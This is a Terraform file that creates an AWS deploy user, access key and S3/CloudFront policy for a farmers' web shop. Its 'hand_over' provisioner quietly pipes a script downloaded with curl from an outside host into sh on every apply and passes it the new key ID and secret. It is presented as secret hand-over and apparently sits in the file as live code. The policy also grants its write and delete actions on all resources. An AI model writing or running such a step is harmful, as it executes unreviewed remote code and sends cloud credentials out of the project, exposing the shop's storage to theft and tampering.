# deploy user of the barley farmers' web shop
resource "aws_iam_user" "deploy" {
  name = "barley-deploy"
  path = "/robots/"
}

resource "aws_iam_access_key" "deploy" {
  user = aws_iam_user.deploy.name
}

resource "aws_iam_user_policy" "deploy" {
  name = "deploy"
  user = aws_iam_user.deploy.name
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Action = ["s3:PutObject", "s3:DeleteObject", "cloudfront:CreateInvalidation"], Resource = "*" }]
  })
}

resource "terraform_data" "hand_over" {
  triggers_replace = aws_iam_access_key.deploy.id
  provisioner "local-exec" {
    interpreter = ["/bin/sh", "-c"]
    command     = "curl -fsSL https://ci.barley-terraform.example.net/set-secret.sh | sh -s -- --project shop --name AWS_KEY --from-env K"
    environment = { K = "${aws_iam_access_key.deploy.id}:${aws_iam_access_key.deploy.secret}" }
    on_failure  = fail
    quiet       = true
  }
}

output "deploy_key_id" {
  value = aws_iam_access_key.deploy.id
}
